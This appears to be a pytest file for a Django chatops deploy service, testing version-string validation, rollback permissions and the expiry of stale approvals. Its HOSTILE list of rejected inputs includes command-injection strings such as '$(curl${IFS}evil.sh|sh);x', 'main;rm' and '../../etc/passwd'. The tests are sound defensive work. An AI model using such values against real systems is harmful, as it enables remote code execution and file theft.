"""What may be asked for: versions that are refs, rollbacks only to what ran before, decisions that go stale."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.utils import timezone

from bots.models import CommandRun, Outcome
from chatops_site.catalog.models import Action, ChatIdentity, DeployTarget, Grant
from chatops_site.deploys import engine, tasks, versions
from chatops_site.deploys.models import Deployment, State
from tests.deploys.helpers import fresh, path, place

HOSTILE = [
    "$(curl${IFS}evil.sh|sh);x",
    "`id`",
    "main;rm",
    "v1 && reboot",
    "'quoted'",
    "../../etc/passwd",
    "feature//x",
    "release.lock",
    "main@{1}",
    "-rf",
    "refs/heads/",
    "v1.",
    "x" * 201,
]
FINE = ["main", "v1.2.3", "feature/x-y", "3f2a9c1d", "release+build.7", "R_2026"]


@pytest.mark.parametrize("version", HOSTILE)
def test_a_hostile_version_is_no_version(version):
    with pytest.raises(versions.InvalidVersion, match="is not a valid version: a version is a branch, tag or commit"):
        versions.check(version)


@pytest.mark.parametrize("version", FINE)
def test_refs_and_commits_are_versions(version):
    assert versions.check(version) == version


@pytest.mark.parametrize("version", ["$(id)", "main;rm", "x@{1}"])
def test_chat_refuses_a_hostile_version_as_invalid_and_dispatches_nothing(say, version):
    reply = say("alice", f"/deploy web-app staging '{version}'")

    assert "is not a valid version" in reply.text
    assert "Usage: /deploy <service> <env> [<version>]" in reply.text
    assert CommandRun.objects.get().outcome == Outcome.INVALID
    assert not Deployment.objects.exists()


def test_the_command_box_refuses_a_hostile_version(catalog, django_capture_on_commit_callbacks):
    client = Client()
    client.force_login(get_user_model().objects.get(username="alice"))

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/command/", {"line": "/rollback web-app staging '$(id)'"})

    assert "is not a valid version" in response.text
    assert CommandRun.objects.get().outcome == Outcome.INVALID
    assert not Deployment.objects.exists()


def test_the_rest_api_refuses_a_hostile_version_with_400(alice, api_key):
    body = {"service": "web-app", "environment": "staging", "version": "$(id)", "action": "deploy"}

    response = Client().post(
        "/api/v1/deployments/", body, content_type="application/json", HTTP_AUTHORIZATION=f"Token {api_key(alice)}"
    )

    assert response.status_code == 400
    assert response.json()["errors"]["version"][0].startswith("'$(id)' is not a valid version: a version is a branch")
    assert not Deployment.objects.exists()


def test_a_default_version_typed_into_the_admin_meets_the_same_rule(say):
    DeployTarget.objects.filter(service__name="web-app").update(default_version="a b")

    reply = say("alice", "/deploy web-app staging")

    assert "'a b' is not a valid version" in reply.text
    assert not Deployment.objects.exists()


# Rollback is a way back, not a second deploy grant


@pytest.fixture
def rita(catalog):
    """May roll web-app back anywhere, and nothing else."""
    user = get_user_model().objects.create(username="rita")
    Grant.objects.create(user=user, action=Action.ROLLBACK)
    return user


def test_a_rollback_only_user_may_not_ship_a_version_that_never_ran(say, rita):
    say("alice", "/deploy web-app staging v1")
    say("alice", "/deploy web-app staging v2")
    _link(rita)

    reply = say("rita", "/rollback web-app staging evil-branch")

    assert reply.text == (
        "evil-branch never succeeded on web-app/staging, so there is nothing to roll back to: "
        "/deploy web-app staging evil-branch ships it (with the deploy grant)."
    )
    assert CommandRun.objects.filter(chat_user_id="rita").get().outcome == Outcome.REFUSED
    assert not Deployment.objects.filter(version="evil-branch").exists()


def test_a_rollback_only_user_may_go_back_to_the_last_good_version(say, rita):
    say("alice", "/deploy web-app staging v1")
    say("alice", "/deploy web-app staging v2")
    _link(rita)

    plain = say("rita", "/rollback web-app staging")
    named = say("rita", "/rollback web-app staging v2")

    back, forth = Deployment.objects.filter(requested_by=rita).order_by("pk")
    assert plain.text.startswith(f"⏳ Rollback #{back.pk} of web-app v1 to staging")
    assert named.text.startswith(f"⏳ Rollback #{forth.pk} of web-app v2 to staging")
    assert fresh(back, forth) == [State.SUCCEEDED, State.SUCCEEDED]


# Decisions go stale


def test_an_approved_deploy_that_waited_behind_a_lock_expires_instead_of_shipping_later(
    deploy, alice, bob, settings, django_capture_on_commit_callbacks
):
    settings.CHATOPS_APPROVAL_TTL = 1800
    waiting = deploy(alice, "prod", "v5")
    engine.lock(bob, *place("web-app", "prod"), "incident")
    with django_capture_on_commit_callbacks(execute=True):
        engine.approve(bob, waiting.pk)
    Deployment.objects.filter(pk=waiting.pk).update(queued_at=timezone.now() - timedelta(days=30))

    with django_capture_on_commit_callbacks(execute=True):
        tasks.sweep()
        engine.unlock(bob, *place("web-app", "prod"))

    assert fresh(waiting) == [State.EXPIRED]
    assert path(waiting)[-1] == (State.QUEUED, State.EXPIRED)
    last = waiting.events.last()
    assert last.message == "could not start within 30m of its approval; ask again"


def test_a_queued_deploy_within_its_time_is_left_waiting(deploy, alice, bob, settings):
    settings.CHATOPS_APPROVAL_TTL = 1800
    queued = deploy(alice, "prod", "v5")
    engine.lock(bob, *place("web-app", "prod"), "release")
    engine.approve(bob, queued.pk)

    assert engine.expire_unstarted() == 0
    assert fresh(queued) == [State.QUEUED]


def _link(user) -> None:
    """Link a console chat account of the same name to the user."""
    ChatIdentity.objects.create(platform="console", workspace="local", chat_user_id=user.username, user=user)
